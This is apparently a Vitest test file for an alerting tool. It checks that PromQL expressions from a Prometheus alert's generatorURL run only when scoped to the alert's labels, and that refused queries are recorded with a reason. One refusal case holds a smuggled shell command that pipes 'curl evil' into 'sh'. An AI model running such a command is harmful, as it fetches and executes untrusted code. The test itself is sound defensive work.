import { describe, expect, it } from "vitest";
import { alertExpressionLimits, alertExpressionRefusal, alertExprQuery } from "./alert-expression";
import { alertOf, investigate, metricsOf } from "@/test/helpers/engine-providers";

const labels = { alertname: "OrdersStale", namespace: "shop", pod: "checkout-1", job: "checkout" };
const urlOf = (expr: string) => `http://prom:9090/graph?g0.expr=${encodeURIComponent(expr)}&g0.tab=1`;

describe("the rule expression from generatorURL", () => {
  it("runs only when every selector is pinned to one of the alert's identifying labels", () => {
    expect(alertExpressionRefusal('orders_age_seconds{namespace="shop"} > 600', labels)).toBeNull();
    expect(alertExpressionRefusal('sum by (pod) (rate(x{job="checkout",code=~"5.."}[5m])) / sum(rate(x{pod="checkout-1"}[5m]))', labels)).toBeNull();
    expect(alertExpressionRefusal('{__name__=~".+",namespace="shop"}', labels)).toBeNull();
  });

  it.each([
    ["a full-cardinality scan", '{__name__=~".+"}', /not scoped to the alert/],
    ["a bare metric", "orders_age_seconds > 600", /selector orders_age_seconds is not scoped/],
    ["another namespace", 'x{namespace="kube-system"}', /not scoped/],
    ["a regex or negative matcher on the scope label", 'x{namespace=~"shop|.*"} or y{namespace!="shop"}', /not scoped/],
    ["one scoped and one unscoped selector", 'x{namespace="shop"} and on() count({__name__=~".+"}) > 0', /\{__name__=~"\.\+"\} is not scoped/],
    ["an unscoped subquery", 'max_over_time(x{job="other"}[30d:1s])', /not scoped/],
    ["garbage", 'x{namespace="shop"} ) ; curl evil | sh', /does not parse as PromQL \(near character \d+\)/],
    ["no selector at all", "vector(1)", /selects no series/],
    ["an oversized expression", `x{namespace="shop"} + ${"1 + ".repeat(1000)}1`, /longer than 2000 characters/],
  ])("refuses %s", (_what, expr, reason) => {
    expect(alertExpressionRefusal(expr, labels)).toMatch(reason);
  });

  it("reads control characters and Go escapes in string literals as Prometheus does, never throwing", async () => {
    expect(alertExpressionRefusal('x{namespace="shop",job="a\tb"}', labels)).toBeNull();
    // PromQL's own escapes (the TypeScript source doubles the backslash): x6f, octal 163 and u0070 spell "shop".
    expect(alertExpressionRefusal('x{namespace="sh\\x6fp"} + y{namespace="\\163hop"} + z{namespace="sho\\u0070"}', labels)).toBeNull();
    expect(alertExpressionRefusal('x{namespace="shop\\u0000"} + y{namespace="shop\u0000"}', labels)).toMatch(/not scoped/);
    const tabbed = 'x{namespace="shop",job="a\tb"} > 1';
    const report = await investigate(alertOf({ alertname: "Tabbed", namespace: "shop" }, { generatorURL: urlOf(tabbed) }), { metrics: metricsOf({}) });
    expect(report.queries).toContainEqual(expect.objectContaining({ provider: "prometheus", query: tabbed }));
  });

  it("refuses everything for an alert with no identifying label", () => {
    expect(alertExpressionRefusal('x{severity="critical"}', { alertname: "A", severity: "critical" })).toMatch(/has none of namespace, pod, instance, node, job, service/);
  });

  it("records a refused expression as not run, with the reason, never sending it or offering it as a step", async () => {
    const hostile = '{__name__=~".+"}';
    const metrics = metricsOf({ orders_age_seconds: [1, 2, 3] });
    const report = await investigate(alertOf(labels, { generatorURL: urlOf(hostile) }), { metrics });
    expect(metrics.seen).not.toContain(hostile);
    expect(report.queries).toContainEqual(expect.objectContaining({ provider: "prometheus", query: hostile, outcome: "not_run", reason: expect.stringMatching(/^rule expression from generatorURL not run: selector .* is not scoped/) }));
    const steps = [report.analysis.decision, report.analysis.enrichment].flatMap((f) => f.steps.map((s) => s.text));
    expect(steps).not.toContain(hostile);
    expect(report.analysis.hypotheses.flatMap((h) => h.nextTests)).not.toContain(hostile);
  });

  it("keeps at most maxSeries series of an allowed expression", async () => {
    const expr = 'orders_age_seconds{namespace="shop"}';
    const many = {
      kind: "prometheus" as const,
      baseUrl: "http://prometheus.test",
      instant: async () => [],
      range: async (query: string) =>
        query === expr ? Array.from({ length: 50 }, (_, i) => ({ metric: { pod: `p-${i}` }, values: [[1, 1]] as Array<[number, number]> })) : [],
    };
    const report = await investigate(alertOf(labels, { generatorURL: urlOf(expr) }), { metrics: many });
    expect(report.evidence.metrics.series.filter((s) => s.id.startsWith("alert_expr"))).toHaveLength(alertExpressionLimits.maxSeries);
    expect(report.evidence.metrics.reason).toContain(`alert_expr returned 50 series, the first ${alertExpressionLimits.maxSeries} kept`);
  });

  it("has no query without an expression, and truncates an oversized one in the record", () => {
    expect(alertExprQuery(alertOf(labels, { generatorURL: "http://prom:9090/graph?g0.tab=1" }))).toEqual([]);
    expect(alertExprQuery(alertOf(labels, { generatorURL: "not a url" }))).toEqual([]);
    const [q] = alertExprQuery(alertOf(labels, { generatorURL: urlOf(`x{namespace="shop"}${" ".repeat(5000)}+1`) }));
    expect(q?.query.length).toBeLessThanOrEqual(alertExpressionLimits.maxChars + 1);
    expect(q?.notRun).toMatch(/longer than/);
  });
});
